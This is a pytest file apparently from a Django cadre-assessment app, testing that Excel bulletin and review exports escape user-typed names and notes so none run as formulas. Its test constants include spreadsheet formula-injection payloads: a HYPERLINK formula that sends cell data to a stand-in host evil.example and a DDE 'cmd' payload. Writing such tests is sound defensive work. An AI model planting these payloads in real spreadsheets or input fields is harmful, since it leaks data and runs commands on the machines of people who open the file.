"""The bulletin's Excel (assessment.exports): text a user typed never runs as a formula."""

from __future__ import annotations

from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessment import supervision
from assessment.periods import period_containing
from cadres.exports import FORMULA_PREFIXES
from cadres.models import Cadre, Organisation

pytestmark = pytest.mark.django_db

HOSTILE_ORG = '=HYPERLINK("http://evil.example/?leak="&A1,"甲镇团委")'
HOSTILE_CADRE = "+cmd|' /C calc'!A0"
HOSTILE_BANNER = "@SUM(1+1)*cmd"


def _cells(response) -> list:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(response.content))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _formulas(cells: list) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_PREFIXES)]


def test_hostile_organisation_and_cadre_names_come_out_escaped(client, tree, scored):
    Organisation.objects.filter(pk=tree.town_a.pk).update(name=HOSTILE_ORG)
    Organisation.objects.filter(pk=tree.banner.pk).update(name=HOSTILE_BANNER)
    Cadre.objects.filter(pk=tree.cadre.pk).update(name=HOSTILE_CADRE)
    client.force_login(tree.county)
    cells = _cells(
        client.get(reverse("assessment:bulletin"), {"format": "xlsx", "edition": "supervisors"})
    )
    assert "'" + HOSTILE_ORG in cells  # the ranking and the flag's organisation
    assert "'" + HOSTILE_CADRE in cells  # the flagged cadre
    assert any(isinstance(c, str) and c.startswith("'" + HOSTILE_BANNER) for c in cells)  # title
    assert _formulas(cells) == []


def test_hostile_review_notes_come_out_escaped(client, tree, scored):
    half = period_containing(timezone.localdate(), kind="half")
    notes = "=1+1 请各团委对照整改"
    supervision.review_save(organisation=tree.town_a, period=half, notes=notes, by=tree.owner)
    client.force_login(tree.owner)
    cells = _cells(
        client.get(reverse("assessment:review"), {"period": half.code, "format": "xlsx"})
    )
    assert "'" + notes in cells
    assert _formulas(cells) == []
